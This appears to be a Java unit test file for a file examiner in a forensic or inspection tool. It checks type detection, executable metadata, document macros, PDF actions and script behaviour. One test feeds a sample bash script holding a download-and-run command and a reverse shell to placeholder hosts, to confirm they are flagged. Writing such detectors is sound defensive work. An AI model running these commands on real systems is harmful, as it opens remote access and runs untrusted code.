package org.netrospect.carving.examine;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.commons.compress.compressors.CompressorStreamFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.netrospect.carving.sample.ArchiveSamples;
import org.netrospect.carving.sample.Bytes;
import org.netrospect.carving.sample.DocumentSamples;
import org.netrospect.carving.sample.ProgramSamples;
import org.netrospect.carving.sample.Samples;
import org.netrospect.core.event.Details;
import org.netrospect.core.file.Examination;
import org.netrospect.core.file.FileContent;

final class ContentExaminerTest {
    static Stream<String> samples() throws IOException {
        return Samples.anywhere().keySet().stream();
    }

    @ParameterizedTest
    @CsvSource({"png,image/png", "jpg,image/jpeg", "gif,image/gif", "bmp,image/bmp", "tiff,image/tiff",
            "webp,image/webp", "zip,application/zip", "gz,application/gzip", "tar,application/x-tar",
            "7z,application/x-7z-compressed", "exe,application/vnd.microsoft.portable-executable",
            "elf,application/x-executable", "class,application/java-vm", "pdf,application/pdf",
            "rtf,application/rtf", "ole2,application/msword", "sqlite,application/x-sqlite3",
            "html,text/html", "woff2,font/woff2", "pyc,application/x-python-code", "mp4,video/mp4",
            "lnk,application/x-ms-shortcut", "macho,application/x-mach-o"})
    void knowsTypesByContent(String sample, String type) throws IOException {
        assertEquals(type, Examined.of(Samples.anywhere().get(sample)).mediaType());
    }

    @ParameterizedTest
    @MethodSource("samples")
    void survivesDamagedFilesOfEveryFormat(String sample) throws IOException {
        byte[] file = Samples.anywhere().get(sample);
        Random random = new Random(sample.hashCode());
        assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            for (int round = 0; round < 40; round++) {
                byte[] damaged = Arrays.copyOf(file,
                        random.nextInt(4) == 0 ? random.nextInt(file.length) : file.length);
                for (int i = 0; i < 1 + random.nextInt(8) && damaged.length > 0; i++) {
                    damaged[random.nextInt(damaged.length)] = (byte) (random.nextBoolean() ? random.nextInt() : 0xff);
                }
                for (Examination.Nested nested : Examined.of(damaged).nested()) {
                    Examined.of(Examined.content(nested));
                }
            }
        });
    }

    @Test
    void saysNothingOfAnEmptyFile() throws IOException {
        assertEquals(Examination.none().entropy(), Examined.of(new byte[0]).entropy());
    }

    @Test
    void measuresEntropy() throws IOException {
        byte[] all = new byte[4096];
        for (int i = 0; i < all.length; i++) {
            all[i] = (byte) i;
        }
        assertEquals(8.0, Examined.of(all).entropy());
        assertEquals(0.0, Examined.of(new byte[100]).entropy());
    }

    @Test
    void passesOnThatTheContentCannotBeRead() {
        FileContent broken = new FileContent() {
            private final byte[] zip = zipped();

            @Override
            public long length() {
                return 1 << 20;
            }

            @Override
            public int read(long position, byte[] into, int offset, int count) throws IOException {
                if (position >= MediaTypes.HEAD) {
                    throw new IOException("disk");
                }
                int n = Math.clamp(zip.length - position, 0, count);
                System.arraycopy(zip, (int) Math.min(position, zip.length), into, offset, n);
                return Math.min(count, (int) (MediaTypes.HEAD - position));
            }
        };
        assertThrows(IOException.class, () -> new ContentExaminer().examine(broken));
    }

    private static byte[] zipped() {
        try {
            return ArchiveSamples.packed(CompressorStreamFactory.GZIP);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void findsThatAnExecutableIsCalledPicture() throws IOException {
        String found = Examined.of(ProgramSamples.portable(0)).mediaType();
        assertEquals(List.of("Its name ends like an image, its content is an executable "
                + "(application/vnd.microsoft.portable-executable).",
                "It was declared as image/jpeg, its content is an executable "
                        + "(application/vnd.microsoft.portable-executable)."),
                new ContentExaminer().mismatch("holiday.jpg", "image/jpeg", found));
    }

    @Test
    void tellsWhatAWindowsProgramIs() throws IOException {
        Examination found = Examined.of(ProgramSamples.portable(96));
        assertEquals("x86_64", Examined.fact(found, "machine"));
        assertEquals("console", Examined.fact(found, "subsystem"));
        assertEquals(new Details.Time(1_600_000_000_000_000_000L), Examined.fact(found, "compile_time"));
        assertEquals(List.of(".text", ".rdata"), Examined.fact(found, "sections"));
        assertEquals(true, Examined.fact(found, "signed"));
        assertEquals(List.of("KERNEL32.dll"), Examined.fact(found, "libraries"));
        assertEquals(1L, Examined.fact(found, "imports"));
        // MD5 of "kernel32.exitprocess"
        assertEquals("f9ade0aa18f660a34a4fa23392e21838", Examined.fact(found, "imphash"));
        assertEquals(false, Examined.fact(Examined.of(ProgramSamples.portable(0)), "signed"));
    }

    @Test
    void tellsWhatAUnixProgramIs() throws IOException {
        Examination found = Examined.of(ProgramSamples.elf());
        assertEquals("x86_64", Examined.fact(found, "machine"));
        assertEquals("executable", Examined.fact(found, "kind"));
        assertEquals("static", Examined.fact(found, "linked"));
        assertEquals(List.of("/usr/lib/libSystem.B.dylib"), Examined.fact(Examined.of(new Bytes()
                .hex("cffaedfe 07000001 03000000 02000000").le32(1).le32(56).le32(0).le32(0).le32(0xc).le32(56).le32(24)
                .zeros(12).text("/usr/lib/libSystem.B.dylib").upTo(88).done()), "libraries"));
    }

    @Test
    void measuresPictures() throws IOException {
        for (String format : List.of("png", "jpg", "gif", "bmp", "tiff")) {
            Examination found = Examined.of(Samples.anywhere().get(format));
            assertEquals(23L, Examined.fact(found, "width"), format);
            assertEquals(17L, Examined.fact(found, "height"), format);
        }
    }

    @Test
    void readsWhatACameraWrote() throws IOException {
        byte[] exif = new Bytes().text("II*\0").le32(8).le16(2).le16(0x110).le16(2).le32(7).le32(38)
                .le16(0x8825).le16(4).le32(1).le32(46).le32(0).text("ACME 1\0\0")
                .le16(4).le16(1).le16(2).le32(2).text("S\0\0\0").le16(2).le16(5).le32(3).le32(100)
                .le16(3).le16(2).le32(2).text("E\0\0\0").le16(4).le16(5).le32(3).le32(124).le32(0)
                .le32(33).le32(1).le32(30).le32(1).le32(0).le32(1).le32(151).le32(1).le32(12).le32(1).le32(36).le32(1)
                .done();
        byte[] jpeg = Samples.anywhere().get("jpg");
        byte[] file = new Bytes().hex("ffd8ffe1").be16(exif.length + 8).text("Exif\0\0").bytes(exif)
                .bytes(Arrays.copyOfRange(jpeg, 2, jpeg.length)).done();
        Examination found = Examined.of(file);
        assertEquals("ACME 1", Examined.fact(found, "camera_model"));
        assertEquals(-33.5, Examined.fact(found, "latitude"));
        assertEquals(151.21, Examined.fact(found, "longitude"));
    }

    @Test
    void takesOutEmbeddedMacrosOfOldDocuments() throws IOException {
        byte[] document = DocumentSamples.compound("WordDocument", "text".getBytes(StandardCharsets.US_ASCII));
        assertEquals("application/msword", Examined.of(document).mediaType());
        assertEquals(false, Examined.fact(Examined.of(document), "macros"));
        assertEquals("application/vnd.ms-excel",
                Examined.of(DocumentSamples.compound("Workbook", new byte[9])).mediaType());
    }

    @Test
    void tellsMacrosLinksAndEmbeddedFilesOfOfficeDocuments() throws IOException {
        String types = "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument"
                + ".wordprocessingml.document.main+xml\"/></Types>";
        String relations = "<Relationships><Relationship Id=\"a\" Target=\"http://example.org/t.dotm\" "
                + "TargetMode=\"External\"/></Relationships>";
        Examination found = Examined.of(ArchiveSamples.zip(false, Map.of("[Content_Types].xml", types.getBytes(),
                "word/_rels/document.xml.rels", relations.getBytes(), "word/vbaProject.bin", new byte[900],
                "word/embeddings/a.bin", "b".getBytes(), "word/document.xml", "<a/>".getBytes())));
        assertEquals("application/vnd.openxmlformats-officedocument.wordprocessingml.document", found.mediaType());
        assertEquals(true, Examined.fact(found, "macros"));
        assertEquals(List.of("http://example.org/t.dotm"), Examined.fact(found, "external_links"));
        assertEquals(List.of("word/embeddings/a.bin"), Examined.fact(found, "embedded"));
        assertEquals(List.of("word/embeddings/a.bin", "word/vbaProject.bin"),
                Examined.names(found).stream().sorted().toList());
    }

    @Test
    void tellsWhatActsInAPdf() throws IOException {
        Examination found = Examined.of(("%PDF-1.7\n1 0 obj <</OpenAction 2 0 R /J#61vaScript 3 0 R /AA 4 0 R>>\n"
                + "5 0 obj << /URI (http://example.org/x) >>\n/JavaScripting\n%%EOF").getBytes());
        assertEquals("application/pdf", found.mediaType());
        assertEquals(1L, Examined.fact(found, "open_action"));
        assertEquals(1L, Examined.fact(found, "javascript"));
        assertEquals(1L, Examined.fact(found, "hidden_names"));
        assertEquals(List.of("http://example.org/x"), Examined.fact(found, "links"));
        assertEquals("nothing", Examined.fact(found, "launch"));
    }

    @Test
    void takesObjectsOutOfRichText() throws IOException {
        Examination found = Examined.of("{\\rtf1{\\object\\objemb{\\*\\objdata 4d5a 90\r\n00}}}".getBytes());
        assertEquals(1L, Examined.fact(found, "objects"));
        assertArrayEquals(new byte[] {0x4d, 0x5a, (byte) 0x90, 0}, Examined.content(found.nested().get(0)));
    }

    @Test
    void tellsWhatAShortcutStarts() throws IOException {
        byte[] file = new Bytes().hex("4c0000000114020000000000c000000000000046").le32(0x20).upTo(76).le16(7)
                .text("/c calc").le32(0).done();
        assertEquals("/c calc", Examined.fact(Examined.of(file), "arguments"));
    }

    @Test
    void tellsWhatScriptsDo() throws IOException {
        Examination found = Examined.of(("#!/bin/bash\ncurl http://a/b | sh\n"
                + "bash -i >& /dev/tcp/1.2.3.4/5\n").getBytes());
        assertEquals("/bin/bash", Examined.fact(found, "interpreter"));
        assertEquals(List.of("fetches", "connects"), Examined.fact(found, "script_does"));
        assertTrue(Examined.names(found).isEmpty());
    }
}
